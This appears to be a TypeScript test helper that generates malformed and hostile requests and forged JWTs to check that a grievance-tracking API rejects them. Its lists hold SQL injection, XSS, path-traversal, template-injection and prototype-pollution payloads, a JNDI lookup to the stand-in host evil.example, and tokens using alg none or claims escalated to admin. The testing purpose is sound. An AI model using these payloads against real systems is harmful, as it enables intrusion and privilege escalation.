import fc from 'fast-check';
import { SignJWT } from 'jose';
import { signDevToken, type Principal } from '@grievance/auth';
import type { EndpointSpec } from './endpoint-catalogue';

/**
 * Hostile requests, generated: each says what it sends and what a careful API must
 * answer (a 4xx, and for a bad field a 400 whose message names it).
 */
export interface HostileRequest {
  /** For the failure report: which endpoint and what was done to the request. */
  label: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
  /** The field a 400 must name; undefined when any 4xx will do. */
  names?: string;
  /** The status it must get; undefined: any 4xx. */
  status?: number;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Every leaf of an example body as a dotted path, with its value. */
export function leaves(value: Json, prefix = ''): { path: string; value: Json }[] {
  if (value !== null && typeof value === 'object' && !Array.isArray(value)) {
    const out: { path: string; value: Json }[] = [];
    for (const [key, child] of Object.entries(value)) {
      const path = prefix ? `${prefix}.${key}` : key;
      out.push({ path, value: child });
      if (child !== null && typeof child === 'object' && !Array.isArray(child)) out.push(...leaves(child, path));
    }
    return out;
  }
  return [];
}

function withValue(body: Json, path: string, value: Json | typeof DELETE): Json {
  const copy = structuredClone(body) as Record<string, Json>;
  const keys = path.split('.');
  let node = copy;
  for (const key of keys.slice(0, -1)) node = node[key] as Record<string, Json>;
  const last = keys[keys.length - 1]!;
  if (value === DELETE) delete node[last];
  else node[last] = value;
  return copy;
}
const DELETE = Symbol('delete');

/** Strings no enum, code or id field may take; in free-text fields they are legitimate words. */
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE grievances; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'null\u0000byte',
  '\u202Eevil',
  '𝕙𝕒𝕫𝕒𝕣𝕕',
  ' ',
];

/** Values of the wrong type for a field whose valid example is `example`. */
function wrongTypes(example: Json): fc.Arbitrary<Json> {
  const fixed = (value: Json) => fc.constant(value) as fc.Arbitrary<Json>;
  const common: fc.Arbitrary<Json>[] = [fixed({ $gt: '' }), fixed({ evil: true })];
  if (typeof example === 'string') return fc.oneof(fc.integer() as fc.Arbitrary<Json>, fc.boolean() as fc.Arbitrary<Json>, fixed([]), fc.array(fc.string({ maxLength: 5 }), { minLength: 1, maxLength: 3 }) as fc.Arbitrary<Json>, ...common);
  if (typeof example === 'number') return fc.oneof(fixed('28.66'), fc.boolean() as fc.Arbitrary<Json>, fixed([]), fixed(''), ...common);
  if (typeof example === 'boolean') return fc.oneof(fixed('true'), fixed(1), fixed([]), ...common);
  if (Array.isArray(example)) return fc.oneof(fixed('x'), fc.integer() as fc.Arbitrary<Json>, fixed([7]), fixed(['not-an-id']), fixed([{}]), ...common);
  return fc.oneof(fixed('x'), fc.integer() as fc.Arbitrary<Json>, fixed([]), fixed([{}]));
}

const nested = (depth: number): Json => (depth === 0 ? 'x' : { a: nested(depth - 1) });

/** Field-level mutations of an endpoint's valid body. */
function bodyMutations(spec: EndpointSpec): fc.Arbitrary<{ label: string; body: string; names: string }> {
  const body = spec.body as Json;
  const fields = leaves(body);
  const freeText = new Set(spec.freeText ?? []);
  const objects = ['', ...fields.filter((f) => f.value !== null && typeof f.value === 'object' && !Array.isArray(f.value)).map((f) => f.path)];
  const leafName = (path: string) => path.split('.').pop()!;
  const arbitraries: fc.Arbitrary<{ label: string; body: string; names: string }>[] = [];
  if (fields.length > 0) {
    arbitraries.push(
      fc.constantFrom(...fields).chain((field) =>
        wrongTypes(field.value).map((value) => ({ label: `${field.path} = ${JSON.stringify(value).slice(0, 40)}`, body: JSON.stringify(withValue(body, field.path, value)), names: leafName(field.path) })),
      ),
      fc.tuple(fc.constantFrom(...fields), fc.integer({ min: 17, max: 60 })).map(([field, depth]) => ({
        label: `${field.path} nested ${depth} deep`,
        body: JSON.stringify(withValue(body, field.path, nested(depth))),
        names: leafName(field.path),
      })),
    );
    const strings = fields.filter((f) => typeof f.value === 'string');
    if (strings.length > 0) {
      arbitraries.push(
      fc.tuple(fc.constantFrom(...strings), fc.integer({ min: 5_001, max: 120_000 })).map(([field, length]) => ({
        label: `${field.path} of ${length} characters`,
        body: JSON.stringify(withValue(body, field.path, '界'.repeat(length))),
        names: leafName(field.path),
      })),
      );
    }
    const numbers = fields.filter((f) => typeof f.value === 'number');
    if (numbers.length > 0) {
      arbitraries.push(
        fc.tuple(fc.constantFrom(...numbers), fc.constantFrom('1e400', '-1e400', '123456789012345678901234567890')).map(([field, raw]) => ({
          label: `${field.path} = ${raw}`,
          // Spliced into the text: JSON.stringify cannot write a number that does not fit.
          body: JSON.stringify(withValue(body, field.path, '__HUGE__')).replace('"__HUGE__"', raw),
          names: leafName(field.path),
        })),
      );
    }
    const codes = fields.filter((f) => typeof f.value === 'string' && !freeText.has(f.path));
    if (codes.length > 0) {
      arbitraries.push(
        fc.tuple(fc.constantFrom(...codes), fc.constantFrom(...INJECTIONS)).map(([field, value]) => ({
          label: `${field.path} = ${JSON.stringify(value)}`,
          body: JSON.stringify(withValue(body, field.path, value)),
          names: leafName(field.path),
        })),
      );
    }
  }
  if ((spec.required ?? []).length > 0) {
    arbitraries.push(
      fc.constantFrom(...spec.required!).map((path) => ({ label: `without ${path}`, body: JSON.stringify(withValue(body, path, DELETE)), names: leafName(path) })),
    );
  }
  arbitraries.push(
    fc.tuple(fc.constantFrom(...objects), fc.constantFrom('isAdmin', 'role', 'status', 'reporterId', 'holder', 'grievanceId', 'points')).map(([at, name]) => ({
      label: `unknown field ${at ? `${at}.` : ''}${name}`,
      body: JSON.stringify(withValue(body, at ? `${at}.${name}` : name, true)),
      names: name,
    })),
    fc.tuple(fc.constantFrom(...objects), fc.constantFrom('__proto__', 'constructor', 'prototype')).map(([at, key]) => {
      // JSON.stringify drops a __proto__ set by assignment, so the key is written into the text.
      const text = JSON.stringify(withValue(body, at ? `${at}.__KEY__` : '__KEY__', { isAdmin: true })).replace('"__KEY__"', JSON.stringify(key));
      return { label: `${key} key at ${at || 'the top'}`, body: text, names: key };
    }),
  );
  return fc.oneof(...arbitraries);
}

/** Whole-request abuse of an endpoint that takes a JSON body. */
function requestMutations(spec: EndpointSpec): { label: string; headers: Record<string, string>; body: string | Uint8Array; names?: string }[] {
  const text = JSON.stringify(spec.body ?? {});
  const bytes = Buffer.from(text);
  return [
    { label: 'JSON sent as text/plain', headers: { 'content-type': 'text/plain' }, body: text, names: 'content-type' },
    { label: 'JSON sent as a form', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1&b=2', names: 'content-type' },
    { label: 'bytes that are not UTF-8', headers: { 'content-type': 'application/json' }, body: Buffer.concat([bytes.subarray(0, 2), Buffer.from([0xff, 0xc3, 0x28]), bytes.subarray(2)]), names: 'UTF-8' },
    { label: 'truncated JSON', headers: { 'content-type': 'application/json' }, body: text.slice(0, Math.max(1, text.length - 3)) },
    { label: 'a JSON array', headers: { 'content-type': 'application/json' }, body: '[{"a":1}]', names: 'body' },
    { label: 'a bare JSON string', headers: { 'content-type': 'application/json' }, body: '"hello"' },
    { label: 'a body of 2 MiB', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...(spec.body ?? {}), padding: 'x'.repeat(2 * 1024 * 1024) }) },
  ];
}

/** Path parameters no endpoint should choke on. */
export const HOSTILE_PARAMS = ['..%2F..%2Fetc%2Fpasswd', "1'%20OR%20'1'%3D'1", 'UPPER%20case', '%00', 'x'.repeat(3000), '%F0%9F%92%A9', '00000000-0000-0000-0000-000000000000%27', '%ZZ'];

/** Hostile query values by parameter. */
const HOSTILE_QUERY_VALUES = ['-999999', '1e400', '99999999999999999999', "' OR 1=1 --", 'x'.repeat(5000), '', '[object Object]', '2026-13-45'];

export interface GenerationContext {
  /** The concrete path of an endpoint (its parameter filled with a real id). */
  pathOf(spec: EndpointSpec): string;
  /** A token of a caller the endpoint lets in, holding what it acts on. */
  tokenFor(spec: EndpointSpec): string;
}

/** `count` field mutations per endpoint with a body, every whole-request abuse, bad params and queries. */
export function hostileRequests(endpoints: readonly EndpointSpec[], context: GenerationContext, options: { perEndpoint: number; seed: number }): HostileRequest[] {
  const out: HostileRequest[] = [];
  for (const spec of endpoints) {
    const path = context.pathOf(spec);
    const auth = { authorization: `Bearer ${context.tokenFor(spec)}` };
    const name = `${spec.method} ${spec.path}`;
    if (spec.body) {
      const samples = fc.sample(bodyMutations(spec), { numRuns: options.perEndpoint, seed: options.seed });
      for (const sample of samples) {
        out.push({ label: `${name}: ${sample.label}`, method: spec.method, path, headers: { ...auth, 'content-type': 'application/json' }, body: sample.body, names: sample.names, status: 400 });
      }
      for (const sample of requestMutations(spec)) {
        out.push({ label: `${name}: ${sample.label}`, method: spec.method, path, headers: { ...auth, ...sample.headers }, body: sample.body, names: sample.names });
      }
    }
    if (spec.param) {
      for (const param of HOSTILE_PARAMS) {
        out.push({ label: `${name}: parameter ${param.slice(0, 30)}`, method: spec.method, path: spec.path.replace(/\{[^}]+\}/, param), headers: { ...auth, ...(spec.body ? { 'content-type': 'application/json' } : {}) }, body: spec.body ? JSON.stringify(spec.body) : undefined });
      }
    }
    for (const key of Object.keys(spec.query ?? {})) {
      for (const value of HOSTILE_QUERY_VALUES) {
        const query = new URLSearchParams({ ...spec.query, [key]: value });
        out.push({ label: `${name}: ?${key}=${value.slice(0, 30)}`, method: spec.method, path: `${path}?${query}`, headers: auth, names: key, status: 400 });
      }
      out.push({ label: `${name}: ?__proto__[isAdmin]=1`, method: spec.method, path: `${path}?${new URLSearchParams(spec.query)}&__proto__%5BisAdmin%5D=1`, headers: auth, status: 400 });
    }
  }
  return out;
}

/** Tokens that must all be refused with 401; `principal` should be a worker (one forgery raises it to admin). */
export async function hostileTokens(principal: Principal): Promise<{ label: string; header: string }[]> {
  const good = await signDevToken(principal);
  const [header, payload] = good.split('.') as [string, string, string];
  const b64 = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>;
  const hs256 = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(new TextEncoder().encode('a-secret-anyone-could-guess-123456'));
  const hour = 3600;
  return [
    { label: 'no token', header: '' },
    { label: 'not a JWT', header: 'Bearer not-a-token' },
    { label: 'another scheme', header: `Basic ${Buffer.from('admin:admin').toString('base64')}` },
    { label: 'alg none', header: `Bearer ${b64({ alg: 'none', typ: 'JWT' })}.${payload}.` },
    { label: 'HS256 with a shared secret', header: `Bearer ${hs256}` },
    { label: 'a worker\'s signature on claims raised to admin', header: `Bearer ${header}.${b64({ ...claims, role: 'admin' })}.${good.split('.')[2]}` },
    { label: 'expired', header: `Bearer ${await signDevToken(principal, { issuedAt: new Date(Date.now() - 2 * hour * 1000), ttlSeconds: hour })}` },
    { label: 'not yet valid', header: `Bearer ${await signDevToken(principal, { notBefore: new Date(Date.now() + hour * 1000) })}` },
    { label: 'unknown role', header: `Bearer ${await signDevToken({ ...principal, role: 'superuser' as never })}` },
    { label: 'member without an org unit', header: `Bearer ${await signDevToken({ sub: 'm', role: 'member' })}` },
  ];
}
